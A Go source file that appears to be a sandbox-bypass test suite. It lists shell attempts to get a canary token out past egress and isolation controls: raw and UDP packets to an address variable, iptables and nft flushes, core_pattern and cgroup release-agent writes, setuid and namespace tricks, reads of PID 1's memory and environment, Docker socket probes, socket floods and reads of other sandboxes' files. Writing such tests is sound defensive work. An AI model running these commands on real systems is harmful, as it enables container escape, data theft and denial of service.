//go:build linux

package bypass

func packetRows() []attempt {
	const g = "Other packets"
	return []attempt{
		{group: g, name: "udp", what: "a datagram to an address", sh: `attempt udp $IP:8443 "$T"`, ctl: unenforced},
		{group: g, name: "udp-allowed", what: "a datagram to an allowed name", sh: `attempt udp good.example:443 "$T"`, ctl: unenforced},
		{group: g, name: "quic", what: "the first packet of QUIC", sh: `attempt udp $IP:443 "\xc3\x00\x00\x00\x01\x08$T\x00\x00\x44"; attempt udp good.example:443 "\xc3\x00\x00\x00\x01\x08$T\x00\x00\x44"`, ctl: unenforced},
		{group: g, name: "udp-6", what: "a datagram over IPv6", sh: `attempt udp "[$IP6]:443" "$T"`, ctl: unenforced},
		{group: g, name: "udp-broadcast", what: "a broadcast", sh: `attempt udp 255.255.255.255:67 "$T"; attempt udp $IP:67 "$T"`, ctl: unenforced},
		{group: g, name: "ntp", what: "NTP", sh: `attempt udp $IP:123 "\x23$T"`, ctl: unenforced},
		{group: g, name: "wireguard", what: "ports of tunnels", sh: `attempt udp $IP:51820 "$T"; attempt udp $IP:500 "$T"; attempt udp $IP:4789 "$T"`, ctl: unenforced},
		{group: g, name: "udp-host", what: "a datagram to the host's loopback", sh: `attempt udp 127.0.0.1:8443 "$T"`, ctl: unenforced},
		{group: g, name: "ping", what: "an echo request without a privilege", sh: `attempt ping $IP $T`, ctl: unenforced},
		{group: g, name: "icmp", what: "an echo request by a raw socket", sh: `attempt raw 1 $IP $T`, ctl: unenforced},
		{group: g, name: "raw", what: "a protocol that nobody knows", sh: `attempt raw 253 $IP $T`, ctl: unenforced},
		{group: g, name: "packet", what: "a frame past the rules (AF_PACKET)", sh: `attempt packet $T`, ctl: unenforced},
		{group: g, name: "udplite", what: "UDP-Lite", sh: `attempt proto udplite $IP 443 $T`, ctl: unenforced, lacks: true},
		{group: g, name: "sctp", what: "SCTP", sh: `attempt proto sctp $IP 443 $T`, ctl: unenforced, lacks: true},
		{group: g, name: "dccp", what: "DCCP", sh: `attempt proto dccp $IP 443 $T`, ctl: unenforced, lacks: true},
		{group: g, name: "smc", what: "shared-memory communications (AF_SMC)", sh: `attempt smc $IP 443 $T`, lacks: true},
		{group: g, name: "vsock", what: "the machine below a virtual machine (AF_VSOCK)", sh: `attempt vsock 2 443 $T; attempt vsock 1 443 $T`, ctl: unenforced, lacks: true},
		{group: g, name: "abstract", what: "an abstract socket of the host", sh: `attempt unix $ABSTRACT "$T"`, ctl: outside},
	}
}

func kernelRows() []attempt {
	const g = "The rules themselves"
	then := func(verb string) string { return verb + ` && send` }
	return []attempt{
		{group: g, name: "nft", what: "an empty ruleset", sh: then(`attempt nft`), ctl: unenforced},
		{group: g, name: "iptables", what: "iptables, nft and ip, where they are", sh: `for c in "iptables -F" "iptables -t nat -F" "nft flush ruleset" "ip route replace default dev lo"; do command -v ${c%% *} >/dev/null && $c; done; attempt nft && send`, ctl: unenforced},
		{group: g, name: "conntrack", what: "connections whose destination is forgotten", sh: then(`attempt conntrack`), ctl: unenforced, lacks: true},
		{group: g, name: "route", what: "another route", sh: then(`attempt route`), ctl: unenforced},
		{group: g, name: "address", what: "another address", sh: then(`attempt addr`), ctl: unenforced},
		{group: g, name: "interface", what: "another interface", sh: then(`attempt link`), ctl: unenforced, lacks: true},
		{group: g, name: "tun", what: "a TUN device, made if need be", sh: then(`attempt tun`), ctl: unenforced, lacks: true},
		{group: g, name: "sysctl-net", what: "settings of the network in /proc/sys", sh: then(`attempt writable /proc/sys/net/ipv4/ip_forward`) + `; ` + then(`attempt writable /proc/sys/net/ipv4/conf/lo/route_localnet`), ctl: unenforced},
		{group: g, name: "sysctl-kernel", what: "core_pattern and sysrq in /proc", sh: then(`attempt writable /proc/sys/kernel/core_pattern`) + `; ` + then(`attempt writable /proc/sysrq-trigger`), ctl: unenforced},
		{group: g, name: "bpf", what: "a program for the kernel (BPF)", sh: then(`attempt bpf`), ctl: unenforced},
		{group: g, name: "io-uring", what: "io_uring, of which tracers of system calls see nothing", sh: `attempt uring $IP 443 $T`, ctl: unenforced, lacks: true},
		{group: g, name: "port-15001", what: "PID 1's ports, taken away", sh: then(`attempt port 127.0.0.1:$CAPTURE`) + `; ` + then(`attempt port 0.0.0.0:$CAPTURE`), ctl: unenforced},
		{group: g, name: "user-namespace", what: "a user namespace", sh: then(`attempt clone user`), ctl: unenforced},
		{group: g, name: "network-namespace", what: "a network namespace of one's own", sh: then(`attempt clone user net`), ctl: unenforced},
		{group: g, name: "mount-namespace", what: "a mount namespace", sh: then(`attempt clone user ns`), ctl: unenforced},
		{group: g, name: "capabilities", what: "capabilities, asked back", sh: then(`attempt caps`), ctl: unenforced},
		{group: g, name: "setuid", what: "uid 0 by setuid(2), and its capabilities", sh: then(`attempt setuid && attempt euid0`), ctl: unenforced},
		{group: g, name: "setuid-program", what: "a set-uid program of one's own", sh: `cp "$(command -v attempt)" x && chmod 4755 x && ./x euid0 && send`, ctl: unenforced},
		{group: g, name: "setuid-su", what: "the set-uid programs of the image", sh: `su root -c "attempt euid0" </dev/null && send; for p in $(find /usr/bin /usr/lib/openssh -perm -4000 2>/dev/null); do $p --version </dev/null >/dev/null 2>&1; done`, ctl: unenforced},
		{group: g, name: "mount", what: "mounts", sh: then(`attempt mount tmpfs`) + `; ` + then(`attempt mount proc`) + `; ` + then(`attempt mount bind /`), ctl: unenforced},
		{group: g, name: "mount-cgroup", what: "a cgroup file system, for its release agent", sh: then(`attempt mount cgroup2`) + `; ` + then(`attempt mount cgroup`), ctl: unenforced, lacks: true},
		{group: g, name: "fsopen", what: "a mount by the newer calls", sh: then(`attempt syscall fsopen`), ctl: unenforced},
		{group: g, name: "remount", what: "/proc without what hides parts of it", sh: then(`attempt remount /proc`), ctl: unenforced},
		{group: g, name: "mknod", what: "a device of the machine's memory", sh: then(`attempt mknod`), ctl: unenforced},
		{group: g, name: "chroot", what: "another root", sh: then(`attempt chroot /tmp`), ctl: unenforced},
		{group: g, name: "file-handle", what: "a file by its number", sh: then(`attempt handle`), ctl: unenforced, lacks: true},
	}
}

func processRows() []attempt {
	const g = "PID 1"
	on := func(verb string) string { return `attempt ` + verb + ` $(victim) && send` }
	return []attempt{
		{group: g, name: "pid1-kill", what: "its end", refused: true, sh: on("kill"), ctl: unenforced, alone: true},
		{group: g, name: "pid1-ptrace", what: "tracing it", refused: true, sh: on("ptrace"), ctl: unenforced},
		{group: g, name: "pid1-memory", what: "its memory in /proc", sh: `dd if=/proc/$(victim)/mem of=/dev/null bs=1 count=0 2>/dev/null && send`, ctl: unenforced},
		{group: g, name: "pid1-vm-read", what: "its memory by process_vm_readv", refused: true, sh: on("vmread"), ctl: unenforced},
		{group: g, name: "pid1-descriptor", what: "a descriptor of its", refused: true, sh: on("getfd"), ctl: unenforced},
		{group: g, name: "pid1-namespace", what: "its network namespace", refused: true, sh: on("setns"), ctl: unenforced},
		{group: g, name: "pid1-root", what: "its root in /proc", sh: `ls /proc/$(victim)/root/ >/dev/null 2>&1 && send`, ctl: unenforced},
		{group: g, name: "pid1-environment", what: "its environment", sh: `cat /proc/$(victim)/environ >/dev/null 2>&1 && send`, ctl: unenforced},
		{group: g, name: "pid1-limits", what: "its limits", refused: true, sh: on("limit"), ctl: unenforced},
	}
}

func linkRows() []attempt {
	const g = "The link"
	const sock = "/run/insights/agent.sock"
	return []attempt{
		{group: g, name: "link-connect", what: "words to its socket", sh: `attempt unix ` + sock + ` "$T"`, ctl: unenforced},
		{group: g, name: "link-service", what: "a stream for the network's service", sh: `attempt unix ` + sock + ` "egress\n" "{\"addr\":\"$IP:443\"}\n$T"`, ctl: unenforced},
		{group: g, name: "link-malformed", what: "malformed frames", sh: `for i in 1 2 3 4; do attempt unix ` + sock + ` "\x00\x00\x00\x01\x00\x00\x00\x01\xff\xff\xff\xff$T"; done`, ctl: unenforced},
		{group: g, name: "link-token", what: "the handshake with another run's proof", sh: `attempt unix ` + sock + ` "{\"v\":1,\"run\":\"another\",\"nonce\":\"$T\",\"sig\":\"AAAA\"}\n"`, ctl: unenforced},
		{group: g, name: "link-flood", what: "a thousand connections to it", sh: `attempt hammer 1000 ` + sock + ` "$T"`, ctl: unenforced, alone: true},
		{group: g, name: "link-bridge", what: "the server's own program for engines elsewhere", sh: `printf "%s" "$T" | timeout 3 /opt/insights/bin/insights-agent-server link; attempt unix ` + sock + ` "$T"`, ctl: unenforced},
		{group: g, name: "link-replaced", what: "a socket of one's own in its place", sh: `ls -la /run/insights/ && mv ` + sock + ` ` + sock + `.old && ln -s /nowhere ` + sock + ` && rm ` + sock + ` && mv ` + sock + `.old ` + sock + ` && send`, ctl: unenforced, alone: true},
		{group: g, name: "open-million", what: "connections without end, and one more", sh: `attempt hammer 20000 $IP:443 "$T"`, alone: true},
		{group: g, name: "proxy-flood", what: "clients of the proxy without end, and one more", sh: `attempt hammer 3000 $P "CONNECT $IP:443 HTTP/1.1\r\nHost: x\r\n\r\n" "$T"`, alone: true},
		{group: g, name: "engine", what: "the engine's socket", sh: `for s in /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock; do attempt unix $s "GET /$T HTTP/1.0\r\n\r\n"; done`, ctl: unenforced},
	}
}

func readRows() []attempt {
	const g = "What others have"
	return []attempt{
		{group: g, name: "host-file", what: "a file of the host", sh: `cat $SECRET /proc/1/root$SECRET /proc/self/root$SECRET; cat /proc/[0-9]*/root$SECRET`, ctl: unenforced, reads: true},
		{group: g, name: "run-directory", what: "another run's directory", sh: `cat $OTHER/secret; find / -xdev -maxdepth 4 -name secret -exec cat {} + 2>/dev/null`, ctl: unenforced, reads: true},
		{group: g, name: "shared-memory", what: "shared memory of the host", sh: `cat /dev/shm/*`, ctl: unenforced, reads: true},
		{group: g, name: "host-environment", what: "the environment of the host's processes", sh: `cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep ^INSIGHTS_BYPASS_CANARY`, ctl: unenforced, reads: true},
		{group: g, name: "neighbour-port", what: "a server of another sandbox", sh: `for a in 127.0.0.1 127.0.1.1 "$(hostname 2>/dev/null || cat /etc/hostname)" 172.17.0.2 172.17.0.3 172.18.0.2; do attempt tcp $a:7777 hello; done`, ctl: neighbour, reads: true},
		{group: g, name: "neighbour-socket", what: "an abstract socket of another sandbox", sh: `attempt unix @insights-neighbour hello`, ctl: neighbour, reads: true},
		{group: g, name: "neighbour-files", what: "files and shared memory of another sandbox", sh: `cat /dev/shm/neighbour /tmp/neighbour /tmp/workspace/neighbour`, ctl: neighbour, reads: true},
	}
}
